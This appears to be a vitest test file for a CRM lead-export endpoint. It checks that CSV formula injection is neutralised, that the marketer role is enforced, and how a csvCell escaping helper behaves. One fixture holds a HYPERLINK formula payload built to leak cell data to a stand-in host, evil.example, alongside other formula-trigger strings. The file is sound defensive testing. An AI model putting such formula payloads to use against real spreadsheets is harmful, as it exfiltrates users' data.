import { beforeAll, describe, expect, it } from 'vitest';
import { parseCsvRecords } from '../../shared';
import { csvCell } from '../src/csvCell';
import { call, createToken, expectProblem } from './helpers';

let marketer: string;
let rep: string;

beforeAll(async () => {
  marketer = (await createToken('marketer')).token;
  rep = (await createToken('rep')).token;
});

describe('GET /v1/leads/export', () => {
  it('exports leads as CSV with formula cells neutralised', async () => {
    const email = `export.${crypto.randomUUID().slice(0, 8)}@example.com`;
    const hostile = {
      email,
      name: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
      title: '@SUM(1+1)',
      company: '+1-555-0100, "Acme"\nLine two',
      industry: '-2+3',
      owner: '\tcmd',
      lifecycleStage: 'mql',
    };
    const put = await call('PUT', '/v1/leads', { token: marketer, body: [hostile] });
    expect(put.status).toBe(200);

    const res = await call('GET', '/v1/leads/export', { token: marketer });
    expect(res.status).toBe(200);
    expect(res.headers.get('Content-Type')).toMatch(/^text\/csv/);
    const text = await res.text();
    expect(text).not.toMatch(/(^|,|\n)=HYPERLINK/);
    const row = parseCsvRecords(text).find((r) => r.email === email);
    expect(row).toMatchObject({
      name: `'${hostile.name}`,
      title: `'${hostile.title}`,
      company: `'${hostile.company}`,
      industry: `'${hostile.industry}`,
      owner: `'${hostile.owner}`,
      lifecycleStage: 'mql',
    });
  });

  it('needs the marketer role and validates its query', async () => {
    await expectProblem(await call('GET', '/v1/leads/export', { token: rep }), 403);
    await expectProblem(await call('GET', '/v1/leads/export?limit=0', { token: marketer }), 400);
  });
});

describe('csvCell', () => {
  it('prefixes every formula trigger and quotes what needs quoting', () => {
    expect(['=1', '+1', '-1', '@a', '\tx', '\rx'].map(csvCell)).toEqual([
      "'=1",
      "'+1",
      "'-1",
      "'@a",
      "'\tx",
      '"\'\rx"',
    ]);
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a "quoted", value')).toBe('"a ""quoted"", value"');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(null)).toBe('');
  });
});
